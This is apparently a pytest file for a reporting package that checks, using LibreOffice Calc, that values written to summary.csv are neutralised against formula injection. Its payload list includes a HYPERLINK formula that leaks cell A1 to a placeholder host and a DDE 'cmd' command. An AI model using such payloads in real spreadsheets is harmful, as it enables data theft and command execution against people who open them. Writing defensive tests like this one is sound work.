"""summary.csv opened by a real spreadsheet (LibreOffice Calc): no cell of user data becomes a formula."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from report_kit import csvcells
from report_kit.batch._executor import AgencyStatus
from report_kit.batch._index import write_index

from .fuzz_tally import count

PAYLOADS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(1+1)", "\t=1+1", "\r=1+1", "=1+1"]
# LibreOffice's CSV import: comma, double quote, UTF-8, from line 1, English, detect numbers, evaluate formulas
# (token 13, as Excel always does): the settings under which injected formulas would run.
CSV_FILTER = "CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true"


def test_cell_rule() -> None:
    assert [csvcells.cell(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert csvcells.row([2024, -3, "-3", "+5", "-1.5", "上海市科委", "", None]) == \
        [2024, -3, "-3", "+5", "-1.5", "上海市科委", "", None]


def _open_in_calc(csv_path: Path, tmp: Path) -> list[list[tuple[object, str]]]:
    """(value, openpyxl data type) of every cell after LibreOffice Calc opened the CSV and saved it as .xlsx."""
    import openpyxl

    exe = shutil.which("soffice") or shutil.which("libreoffice")
    if exe is None:
        if os.environ.get("CI"):
            raise AssertionError("CI installs LibreOffice Calc (make system-deps): it is missing")
        pytest.skip("LibreOffice Calc (soffice) is not installed: make system-deps")
    out = tmp / "calc"
    subprocess.run([exe, "--headless", "--norestore", f"--infilter={CSV_FILTER}", "--convert-to", "xlsx",
                    "--outdir", str(out), str(csv_path)], check=True, capture_output=True, timeout=180,
                   env={**os.environ, "HOME": str(tmp)}, stdin=subprocess.DEVNULL)
    wb = openpyxl.load_workbook(out / (csv_path.stem + ".xlsx"))  # formulas kept as formulas (type "f")
    return [[(c.value, c.data_type) for c in row] for row in wb.active.iter_rows()]


@pytest.mark.slow
def test_summary_csv_opens_without_formulas(tmp_path: Path) -> None:
    statuses = [AgencyStatus(None, 2024, f"agency-{i}", name, "failed", reason=f"{name}: bad params")
                for i, name in enumerate(PAYLOADS)]
    statuses.append(AgencyStatus(None, 2024, "plain", "-3", "missing"))
    outputs = tmp_path / "outputs"
    write_index(outputs, statuses)
    cells = _open_in_calc(outputs / "summary.csv", tmp_path)
    header, rows = cells[0], cells[1:]
    column = {name: i for i, (name, _) in enumerate(header)}
    formulas = [value for row in rows for value, kind in row if kind == "f"]
    count("summary.csv in a spreadsheet", "injected" if formulas else "valid")
    assert formulas == [], "cells evaluated as formulas"
    shown = {row[column["slug"]][0]: row[column["agency"]][0] for row in rows}
    # shown as text, apostrophe first (Calc reads a quoted \r as a line break)
    assert [shown[f"agency-{i}"] for i in range(len(PAYLOADS))] == ["'" + p.replace("\r", "\n") for p in PAYLOADS]
    assert rows[0][column["year"]] == (2024, "n") and rows[0][column["errors"]] == (0, "n")
    assert shown["plain"] == -3  # a plain number stays a number


@pytest.mark.slow
def test_the_spreadsheet_does_evaluate_unneutralised_cells(tmp_path: Path) -> None:
    """The control: the same cells written raw are formulas to Calc, so the test above can fail."""
    buf = io.StringIO()
    csv.writer(buf).writerows([["agency"], *([p] for p in PAYLOADS if p[0] == "=")])
    path = tmp_path / "raw.csv"
    path.write_text("\ufeff" + buf.getvalue(), "utf-8")
    kinds = [kind for row in _open_in_calc(path, tmp_path)[1:] for _, kind in row]
    assert kinds == ["f"] * len(kinds) and kinds
